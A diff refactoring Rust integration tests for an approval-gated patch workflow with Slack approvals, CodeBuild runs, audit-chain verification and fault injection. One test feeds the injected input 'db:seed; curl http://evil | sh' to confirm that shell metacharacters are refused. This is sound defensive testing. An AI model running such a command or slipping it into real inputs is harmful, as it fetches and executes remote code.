@@ -57,9 +57,14 @@ fn request(commit: &str, extra: Value) -> Value {
         "reason": "totals were wrong after the import",
         "requestedBy": BOB,
     });
+    // `extra` adds or replaces fields; a `null` removes one.
     if let (Some(r), Some(extra)) = (r.as_object_mut(), extra.as_object()) {
         for (k, v) in extra {
-            r.insert(k.clone(), v.clone());
+            if v.is_null() {
+                r.remove(k);
+            } else {
+                r.insert(k.clone(), v.clone());
+            }
         }
     }
     r
@@ -70,6 +75,35 @@ impl P {
         let name = unique_name("patch");
         let arn = self.stack.start(&self.sm, &name, input).await?;
         Ok((name, arn))
+    }
+
+    /// Submit the standard request for the app's head with `extra` fields.
+    async fn submit_request(&self, extra: Value) -> Result<(String, String)> {
+        self.submit(&request(&self.stack.app_head()?, extra)).await
+    }
+
+    /// The scenario most tests share: submit the request (with `extra`), wait for its
+    /// approval request, inject `faults`, alice approves (Slack answers 200), wait for the
+    /// end; the faults are cleared whatever happened. The patch id, the execution and its end.
+    async fn approved_run(
+        &self,
+        extra: Value,
+        faults: &[Value],
+    ) -> Result<(String, String, Ended)> {
+        let (id, arn) = self.submit_request(extra).await?;
+        let result = async {
+            self.pending(&id).await?;
+            self.stack.faults(faults).await?;
+            let (status, body) = self
+                .click(&id, ALICE_SLACK, "patch_approve", json!({}))
+                .await?;
+            assert_eq!(status, 200, "{body}");
+            self.stack.wait_end(&arn, TIMEOUT).await
+        }
+        .await;
+        self.stack.clear_faults().await?;
+        let ended = result?;
+        Ok((id, arn, ended))
     }
 
     async fn record(&self, id: &str) -> Result<Value> {
@@ -188,6 +222,43 @@ impl P {
             .collect())
     }
 
+    /// The names of the patch's audit events, in order.
+    async fn audit_names(&self, id: &str) -> Result<Vec<String>> {
+        Ok(self
+            .audit_events(id)
+            .await?
+            .into_iter()
+            .map(|(e, _)| e)
+            .collect())
+    }
+
+    /// The data of the patch's first `event` in the audit trail, if there is one.
+    async fn find_audit_event(&self, id: &str, event: &str) -> Result<Option<Value>> {
+        Ok(self
+            .audit_events(id)
+            .await?
+            .into_iter()
+            .find(|(e, _)| e == event)
+            .map(|(_, data)| data))
+    }
+
+    /// The data of the patch's first `event`; an error when there is none.
+    async fn audit_event(&self, id: &str, event: &str) -> Result<Value> {
+        self.find_audit_event(id, event)
+            .await?
+            .with_context(|| format!("no {event} in the audit trail of {id}"))
+    }
+
+    /// One audit sweep over the last hour (the audit-check function's scheduled mode).
+    async fn sweep(&self) -> Result<Value> {
+        self.stack
+            .invoke(
+                "AuditCheckFunction",
+                &json!({"mode": "sweep", "windowHours": 1}),
+            )
+            .await
+    }
+
     /// The CLI against this stack, acting as `as_user` (an IAM user of the replica) or the
     /// replica's default identity.
     async fn cli(&self, as_user: Option<&str>, args: &[&str]) -> Result<(bool, String)> {
@@ -279,7 +350,7 @@ async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> R
         .await?;
     assert_eq!(status, 200, "{body}");
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    Expect::succeeded().check(&p.stack, &arn, &ended).await?;
     let out = ended.output.context("output")?;
     assert_eq!(out["verdict"], "COMPLIANT");
     assert_eq!(out["approvers"], json!(["alice"]));
@@ -301,14 +372,8 @@ async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> R
     let sidecar = p.stack.object(&format!("{log_uri}.sha256")).await?;
     assert!(String::from_utf8_lossy(&sidecar).starts_with(&sha256_hex(&log)));
     // The audit trail tells the whole story, and the chain verifies.
-    let events: Vec<String> = p
-        .audit_events(&id)
-        .await?
-        .into_iter()
-        .map(|(e, _)| e)
-        .collect();
     assert_eq!(
-        events,
+        p.audit_names(&id).await?,
         [
             "REQUESTED",
             "DECISION",
@@ -332,7 +397,7 @@ async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> R
 #[tokio::test]
 async fn rejected_patch_runs_no_build() -> Result<()> {
     let p = setup().await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     let (status, body) = p.click(&id, CAROL_SLACK, "patch_reject", json!({})).await?;
     assert_eq!(status, 200, "{body}");
@@ -348,19 +413,11 @@ async fn unanswered_patch_expires_without_a_build() -> Result<()> {
     let p = setup().await?;
     // 60 s at the test time scale (60x) is one second.
     let (id, arn) = p
-        .submit(&request(
-            &p.stack.app_head()?,
-            json!({"approvalTimeoutSeconds": 60}),
-        ))
+        .submit_request(json!({"approvalTimeoutSeconds": 60}))
         .await?;
     p.ended_without_build(&id, &arn, "ApprovalExpired", Some("EXPIRED"))
         .await?;
-    let events: Vec<String> = p
-        .audit_events(&id)
-        .await?
-        .into_iter()
-        .map(|(e, _)| e)
-        .collect();
+    let events = p.audit_names(&id).await?;
     assert_eq!(events.last().map(String::as_str), Some("FINISHED"));
     Ok(())
 }
@@ -368,12 +425,7 @@ async fn unanswered_patch_expires_without_a_build() -> Result<()> {
 #[tokio::test]
 async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two() -> Result<()> {
     let p = setup().await?;
-    let (id, arn) = p
-        .submit(&request(
-            &p.stack.app_head()?,
-            json!({"requiredApprovals": 2}),
-        ))
-        .await?;
+    let (id, arn) = p.submit_request(json!({"requiredApprovals": 2})).await?;
     p.pending(&id).await?;
     let (_, body) = p.click(&id, BOB_SLACK, "patch_approve", json!({})).await?;
     assert_eq!(
@@ -407,7 +459,7 @@ async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two()
         .await?;
     assert_eq!(body["outcome"]["status"], "APPROVED", "{body}");
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    Expect::succeeded().check(&p.stack, &arn, &ended).await?;
     let refused = p
         .audit_events(&id)
         .await?
@@ -421,7 +473,7 @@ async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two()
 #[tokio::test]
 async fn forged_stale_and_replayed_slack_requests_get_401_and_record_nothing() -> Result<()> {
     let p = setup().await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     let (status, _) = p
         .click(
@@ -476,7 +528,7 @@ async fn forged_stale_and_replayed_slack_requests_get_401_and_record_nothing() -
 #[tokio::test]
 async fn a_forged_send_task_success_ends_not_approved_without_a_build() -> Result<()> {
     let p = setup().await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     let wait = p.approval_wait(&id).await?.context("the approval wait")?;
     let token = wait["taskToken"].as_str().context("token")?;
@@ -497,26 +549,11 @@ async fn a_forged_send_task_success_ends_not_approved_without_a_build() -> Resul
 #[tokio::test]
 async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> Result<()> {
     let p = setup().await?;
-    let repo = p.stack.app_repo();
     let branch = unique_name("fix");
-    git(&repo, &["checkout", "-q", "-b", &branch])?;
-    std::fs::write(repo.join("script/fix_totals.rb"), "puts 'version one'\n")?;
-    git(&repo, &["add", "script/fix_totals.rb"])?;
-    git(
-        &repo,
-        &[
-            "-c",
-            "user.name=t",
-            "-c",
-            "user.email=t@e",
-            "commit",
-            "-q",
-            "-m",
-            "fix one",
-        ],
-    )?;
-    let approved_sha = git(&repo, &["rev-parse", "HEAD"])?;
-    git(&repo, &["checkout", "-q", "-"])?;
+    let script = "script/fix_totals.rb";
+    let approved_sha =
+        p.stack
+            .commit_to_app(&branch, &[(script, "puts 'version one'\n")], "fix one")?;
     let (ok, out) = p
         .cli(
             Some("bob"),
@@ -547,25 +584,11 @@ async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> R
     assert!(out.contains(&approved_sha), "{out}");
     p.pending(&id).await?;
     // The branch moves on after the request.
-    git(&repo, &["checkout", "-q", &branch])?;
-    std::fs::write(
-        repo.join("script/fix_totals.rb"),
-        "puts 'version two: DROP EVERYTHING'\n",
+    p.stack.commit_to_app(
+        &branch,
+        &[(script, "puts 'version two: DROP EVERYTHING'\n")],
+        "fix two",
     )?;
-    git(
-        &repo,
-        &[
-            "-c",
-            "user.name=t",
-            "-c",
-            "user.email=t@e",
-            "commit",
-            "-q",
-            "-am",
-            "fix two",
-        ],
-    )?;
-    git(&repo, &["checkout", "-q", "-"])?;
     // dave may not approve; alice may.
     let (ok, out) = p.cli(Some("dave"), &["patch", "approve", &id]).await?;
     assert!(
@@ -579,7 +602,7 @@ async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> R
         .context("arn")?
         .to_string();
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    Expect::succeeded().check(&p.stack, &arn, &ended).await?;
     let builds = p.builds_of(&id).await?;
     assert_eq!(
         builds[0].resolved_source_version(),
@@ -601,13 +624,7 @@ async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> R
         "{text}"
     );
     // The CloudTrail record of the submit names bob, as the patch does: no mismatch.
-    let sweep = p
-        .stack
-        .invoke(
-            "AuditCheckFunction",
-            &json!({"mode": "sweep", "windowHours": 1}),
-        )
-        .await?;
+    let sweep = p.sweep().await?;
     assert!(
         !sweep["requesterMismatches"].to_string().contains(&id),
         "{sweep}"
@@ -633,29 +650,15 @@ async fn the_sweep_names_a_build_started_outside_the_workflow_and_a_false_reques
         .context("id")?
         .to_string();
     // Started by the replica's default identity (local-operator) but naming bob.
-    let (id, arn) = p
-        .submit(&request(&p.stack.app_head()?, json!({"ticket": "OPS-9"})))
-        .await?;
+    let (id, arn) = p.submit_request(json!({"ticket": "OPS-9"})).await?;
     p.pending(&id).await?;
     // Slack is down for the first alert: that sweep fails, and nothing it found is lost.
     p.stack
         .slack_fail("chat.postMessage", "internal_error", 1)
         .await?;
-    let failed = p
-        .stack
-        .invoke(
-            "AuditCheckFunction",
-            &json!({"mode": "sweep", "windowHours": 1}),
-        )
-        .await;
+    let failed = p.sweep().await;
     assert!(failed.is_err(), "{failed:?}");
-    let sweep = p
-        .stack
-        .invoke(
-            "AuditCheckFunction",
-            &json!({"mode": "sweep", "windowHours": 1}),
-        )
-        .await?;
+    let sweep = p.sweep().await?;
     let unapproved = sweep["unapproved"].to_string();
     assert!(
         unapproved.contains(&build_id) && unapproved.contains("without an approved request"),
@@ -674,13 +677,7 @@ async fn the_sweep_names_a_build_started_outside_the_workflow_and_a_false_reques
         "no alert names {build_id}"
     );
     // A second sweep finds the same, alerts nothing new.
-    let again = p
-        .stack
-        .invoke(
-            "AuditCheckFunction",
-            &json!({"mode": "sweep", "windowHours": 1}),
-        )
-        .await?;
+    let again = p.sweep().await?;
     assert!(again["unapproved"].as_array().is_some_and(|a| a
         .iter()
         .all(|x| x["buildId"] != build_id.as_str() || x["new"] == false)));
@@ -698,33 +695,26 @@ async fn a_failing_script_is_patch_failed_and_audited_and_metacharacters_are_inv
     input["task"] = json!("db:seed; curl http://evil | sh");
     let (id, arn) = p.submit(&input).await?;
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.error.as_deref(), Some("InvalidInput"), "{ended:?}");
-    assert!(ended
-        .cause
-        .unwrap_or_default()
-        .contains("shell metacharacters are refused"));
+    Expect {
+        cause_has: &["shell metacharacters are refused"],
+        ..Expect::error("InvalidInput")
+    }
+    .check(&p.stack, &arn, &ended)
+    .await?;
     assert!(p.stack.get_item(&p.table, "patchId", &id).await?.is_none());
-    // A script that exits non-zero (the sample app's script/fail.rb exits 3).
-    let mut input = request(&p.stack.app_head()?, json!({}));
-    input.as_object_mut().context("obj")?.remove("task");
-    input["kind"] = json!("runner");
-    input["script"] = json!("script/fail.rb");
-    let (id, arn) = p.submit(&input).await?;
-    p.pending(&id).await?;
-    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
-        .await?;
-    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.error.as_deref(), Some("PatchFailed"), "{ended:?}");
-    let cause = ended.cause.unwrap_or_default();
-    assert!(cause.contains("in phase BUILD"), "{cause}");
-    let finished = p
-        .audit_events(&id)
-        .await?
-        .into_iter()
-        .find(|(e, _)| e == "FINISHED")
-        .context("FINISHED")?;
-    assert_eq!(finished.1["status"], "FAILED");
-    assert!(finished.1["logUri"].as_str().is_some());
+    // A script that exits non-zero (the sample app's script/fail.rb exits 3); `null` drops
+    // the rake task from the request.
+    let runner = json!({"task": null, "kind": "runner", "script": "script/fail.rb"});
+    let (id, arn, ended) = p.approved_run(runner, &[]).await?;
+    Expect {
+        cause_has: &["in phase BUILD"],
+        ..Expect::error("PatchFailed")
+    }
+    .check(&p.stack, &arn, &ended)
+    .await?;
+    let finished = p.audit_event(&id, "FINISHED").await?;
+    assert_eq!(finished["status"], "FAILED");
+    assert!(finished["logUri"].as_str().is_some());
     Ok(())
 }
 
@@ -769,33 +759,24 @@ async fn audit_verify_names_an_edited_record_a_deleted_newest_record_and_a_rewri
         .into();
         key
     };
+    let set_actor_of_2 = |actor: &'static str| {
+        p.stack
+            .db
+            .update_item()
+            .table_name(&p.audit_table)
+            .set_key(Some(item(2)))
+            .update_expression("SET actor = :m")
+            .expression_attribute_values(
+                ":m",
+                aws_sdk_dynamodb::types::AttributeValue::S(actor.into()),
+            )
+            .send()
+    };
     // Edit record 2.
-    p.stack
-        .db
-        .update_item()
-        .table_name(&p.audit_table)
-        .set_key(Some(item(2)))
-        .update_expression("SET actor = :m")
-        .expression_attribute_values(
-            ":m",
-            aws_sdk_dynamodb::types::AttributeValue::S("mallory".into()),
-        )
-        .send()
-        .await?;
+    set_actor_of_2("mallory").await?;
     let (ok, out) = verify().await?;
     assert!(!ok && out.contains("record 2 was modified"), "{out}");
-    p.stack
-        .db
-        .update_item()
-        .table_name(&p.audit_table)
-        .set_key(Some(item(2)))
-        .update_expression("SET actor = :m")
-        .expression_attribute_values(
-            ":m",
-            aws_sdk_dynamodb::types::AttributeValue::S("bob".into()),
-        )
-        .send()
-        .await?;
+    set_actor_of_2("bob").await?;
     assert!(verify().await?.0, "restored");
     // Delete the newest record and move the head back to 3: the S3 anchor remembers 4.
     let (records, _) = audit::read_chain(&trail).await?;
@@ -857,34 +838,28 @@ async fn audit_verify_names_an_edited_record_a_deleted_newest_record_and_a_rewri
 async fn a_start_build_error_is_recorded_and_the_lost_event_is_caught_by_the_poll() -> Result<()> {
     let p = setup().await?;
     // StartBuild refused (not retried) → Errored, recorded ERROR.
-    p.stack.fault(json!({"service": "codebuild", "operation": "StartBuild", "error": "InvalidInputException", "count": 1})).await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
-    p.pending(&id).await?;
-    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
+    let refused = [fault::aws(
+        "codebuild",
+        "StartBuild",
+        "InvalidInputException",
+        1,
+    )];
+    let (id, arn, ended) = p.approved_run(json!({}), &refused).await?;
+    Expect::error("AwsServiceError")
+        .check(&p.stack, &arn, &ended)
         .await?;
-    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.error.as_deref(), Some("AwsServiceError"), "{ended:?}");
     assert_eq!(p.record(&id).await?["status"], "ERROR");
-    p.stack.clear_faults().await?;
     // The build's state-change event is lost: the safety-net poll notices the end. The build
     // (14 s) outlasts register-wait's re-check and the first (scaled 10 s) wait.
-    p.stack
-        .fault(json!({"drop_events": {"source": "aws.codebuild", "detail_type": "CodeBuild Build State Change",
-                                      "detail": {"project-name": p.project, "build-status": "SUCCEEDED"}, "count": 1}}))
-        .await?;
     let slow = json!({"task": "fake:sleep", "args": ["14"]});
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, slow)).await?;
-    p.pending(&id).await?;
-    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
-        .await?;
-    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
-    assert!(p
-        .stack
-        .states_entered(&arn)
-        .await?
-        .contains(&"PollBuild".to_string()));
-    p.stack.clear_faults().await?;
+    let lost = [fault::lost_build_end(Some(&p.project))];
+    let (_, arn, ended) = p.approved_run(slow, &lost).await?;
+    Expect {
+        entered: &["PollBuild"],
+        ..Expect::succeeded()
+    }
+    .check(&p.stack, &arn, &ended)
+    .await?;
     Ok(())
 }
 
@@ -893,51 +868,38 @@ async fn a_start_build_error_is_recorded_and_the_lost_event_is_caught_by_the_pol
 #[tokio::test]
 async fn failures_after_the_build_are_recorded_and_named() -> Result<()> {
     let p = setup().await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
-    p.pending(&id).await?;
-    p.stack
+    let faults = [
         // The work log's upload (not the audit anchors, also S3 objects).
-        .fault(json!({"service": "s3", "operation": "PutObject", "match": "Running task", "error": "AccessDenied", "count": 1}))
-        .await?;
-    // Only the audit check writes a verdict to the patch record.
-    p.stack
-        .fault(json!({"service": "dynamodb", "operation": "UpdateItem", "match": "verdict", "error": "ValidationException", "count": 1}))
-        .await?;
-    // The decision's thread reply (1) and every Notify attempt (4) fail.
-    p.stack
-        .slack_fail("chat.postMessage", "internal_error", 5)
-        .await?;
-    let (status, body) = p
-        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
-        .await?;
-    assert_eq!(status, 200, "{body}");
-    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    p.stack.clear_faults().await?;
-    assert_eq!(
-        ended.error.as_deref(),
-        Some("AuditCheckFailed"),
-        "{ended:?}"
-    );
-    let states = p.stack.states_entered(&arn).await?;
-    for s in [
-        "CollectLogs",
-        "AuditCheck",
-        "RecordOutcome",
-        "Notify",
-        "AuditCheckFailed",
-    ] {
-        assert!(states.iter().any(|x| x == s), "{s} not in {states:?}");
+        fault::aws_matching("s3", "PutObject", "Running task", "AccessDenied", 1),
+        // Only the audit check writes a verdict to the patch record.
+        fault::aws_matching(
+            "dynamodb",
+            "UpdateItem",
+            "verdict",
+            "ValidationException",
+            1,
+        ),
+        // The decision's thread reply (1) and every Notify attempt (4) fail.
+        fault::slack("chat.postMessage", "internal_error", 5),
+    ];
+    let (id, arn, ended) = p.approved_run(json!({}), &faults).await?;
+    Expect {
+        entered: &[
+            "CollectLogs",
+            "AuditCheck",
+            "RecordOutcome",
+            "Notify",
+            "AuditCheckFailed",
+        ],
+        ..Expect::error("AuditCheckFailed")
     }
+    .check(&p.stack, &arn, &ended)
+    .await?;
     let rec = p.record(&id).await?;
     assert_eq!(rec["status"], "SUCCEEDED");
     assert!(rec.get("logUri").is_none(), "{rec}");
-    let finished = p
-        .audit_events(&id)
-        .await?
-        .into_iter()
-        .find(|(e, _)| e == "FINISHED")
-        .context("FINISHED")?;
-    assert_eq!(finished.1["status"], "SUCCEEDED");
+    let finished = p.audit_event(&id, "FINISHED").await?;
+    assert_eq!(finished["status"], "SUCCEEDED");
     Ok(())
 }
 
@@ -948,60 +910,53 @@ async fn failures_of_the_waits_end_the_run_recorded() -> Result<()> {
     let p = setup().await?;
     // Slack is down for every attempt of the approval request (1 + 5 retries).
     p.stack
-        .slack_fail("chat.postMessage", "internal_error", 6)
+        .faults(&[fault::slack("chat.postMessage", "internal_error", 6)])
         .await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    let (id, arn) = p.submit_request(json!({})).await?;
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
     p.stack.clear_faults().await?;
-    assert_eq!(ended.error.as_deref(), Some("SlackError"), "{ended:?}");
+    Expect::error("SlackError")
+        .check(&p.stack, &arn, &ended)
+        .await?;
     assert_eq!(p.record(&id).await?["status"], "ERROR");
     assert!(p.builds_of(&id).await?.is_empty());
 
-    // The build's wait cannot be stored.
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
-    p.pending(&id).await?;
-    let waits = p.stack.table("WaitsTable")?;
-    p.stack
-        .fault(json!({"service": "dynamodb", "operation": "PutItem", "match": waits, "error": "ValidationException", "count": 1}))
-        .await?;
-    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
-        .await?;
-    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    p.stack.clear_faults().await?;
-    assert_eq!(ended.error.as_deref(), Some("AwsServiceError"), "{ended:?}");
-    assert!(p
-        .stack
-        .states_entered(&arn)
-        .await?
-        .iter()
-        .any(|s| s == "WaitForBuild"));
-    assert_eq!(p.record(&id).await?["status"], "ERROR");
-
-    // The end-of-build event is lost and CodeBuild refuses the poll (register-wait's re-check,
-    // the first BatchGetBuilds, goes through; the 8 s build outlasts it).
-    let (id, arn) = p
-        .submit(&request(
-            &p.stack.app_head()?,
+    let cases = [
+        // The build's wait cannot be stored.
+        (
+            json!({}),
+            vec![fault::aws_matching(
+                "dynamodb",
+                "PutItem",
+                &p.waits_table,
+                "ValidationException",
+                1,
+            )],
+            Expect {
+                entered: &["WaitForBuild"],
+                ..Expect::error("AwsServiceError")
+            },
+        ),
+        // The end-of-build event is lost and CodeBuild refuses the poll (register-wait's
+        // re-check, the first BatchGetBuilds, goes through; the 8 s build outlasts it).
+        (
             json!({"task": "fake:sleep", "args": ["8"]}),
-        ))
-        .await?;
-    p.pending(&id).await?;
-    p.stack
-        .fault(json!({"drop_events": {"source": "aws.codebuild", "detail_type": "CodeBuild Build State Change",
-                                      "detail": {"project-name": p.project, "build-status": "SUCCEEDED"}, "count": 1}}))
-        .await?;
-    p.stack
-        .fault(json!({"service": "codebuild", "operation": "BatchGetBuilds", "error": "InvalidInputException", "after": 1, "count": 1}))
-        .await?;
-    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
-        .await?;
-    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    p.stack.clear_faults().await?;
-    assert_eq!(ended.error.as_deref(), Some("AwsServiceError"), "{ended:?}");
-    let states = p.stack.states_entered(&arn).await?;
-    assert!(states.iter().any(|s| s == "PollBuild"), "{states:?}");
-    assert!(!states.iter().any(|s| s == "BuildEnded?"), "{states:?}");
-    assert_eq!(p.record(&id).await?["status"], "ERROR");
+            vec![
+                fault::lost_build_end(Some(&p.project)),
+                fault::aws_after("codebuild", "BatchGetBuilds", "InvalidInputException", 1, 1),
+            ],
+            Expect {
+                entered: &["PollBuild"],
+                not_entered: &["BuildEnded?"],
+                ..Expect::error("AwsServiceError")
+            },
+        ),
+    ];
+    for (extra, faults, expect) in cases {
+        let (id, arn, ended) = p.approved_run(extra, &faults).await?;
+        expect.check(&p.stack, &arn, &ended).await?;
+        assert_eq!(p.record(&id).await?["status"], "ERROR");
+    }
     Ok(())
 }
 
@@ -1012,7 +967,7 @@ async fn failures_of_the_waits_end_the_run_recorded() -> Result<()> {
 async fn a_build_no_longer_backed_by_its_approval_is_an_audit_violation() -> Result<()> {
     let p = setup().await?;
     let slow = json!({"task": "fake:sleep", "args": ["5"]});
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, slow)).await?;
+    let (id, arn) = p.submit_request(slow).await?;
     p.pending(&id).await?;
     p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
         .await?;
@@ -1036,15 +991,14 @@ async fn a_build_no_longer_backed_by_its_approval_is_an_audit_violation() -> Res
         .send()
         .await?;
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
-    assert_eq!(ended.error.as_deref(), Some("AuditViolation"), "{ended:?}");
-    assert!(ended.cause.unwrap_or_default().contains("is not approved"));
-    let verdict = p
-        .audit_events(&id)
-        .await?
-        .into_iter()
-        .find(|(e, _)| e == "VERDICT")
-        .context("VERDICT")?;
-    assert_eq!(verdict.1["verdict"], "VIOLATION");
+    Expect {
+        cause_has: &["is not approved"],
+        ..Expect::error("AuditViolation")
+    }
+    .check(&p.stack, &arn, &ended)
+    .await?;
+    let verdict = p.audit_event(&id, "VERDICT").await?;
+    assert_eq!(verdict["verdict"], "VIOLATION");
     Ok(())
 }
 
@@ -1053,7 +1007,7 @@ async fn a_build_no_longer_backed_by_its_approval_is_an_audit_violation() -> Res
 #[tokio::test]
 async fn a_stopped_patch_execution_is_ended_in_the_record_and_the_audit_trail() -> Result<()> {
     let p = setup().await?;
-    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     p.stack
         .sfn
@@ -1068,14 +1022,11 @@ async fn a_stopped_patch_execution_is_ended_in_the_record_and_the_audit_trail() 
     })
     .await?;
     // Cleanup ends the record, then appends FINISHED to the audit trail: wait for both.
-    let finished = eventually("FINISHED in the audit trail", TIMEOUT, || async {
-        Ok(p.audit_events(&id)
-            .await?
-            .into_iter()
-            .find(|(e, _)| e == "FINISHED"))
+    let finished = eventually("FINISHED in the audit trail", TIMEOUT, || {
+        p.find_audit_event(&id, "FINISHED")
     })
     .await?;
-    assert_eq!(finished.1["status"], "ABORTED");
+    assert_eq!(finished["status"], "ABORTED");
     assert!(p.builds_of(&id).await?.is_empty());
     Ok(())
 }
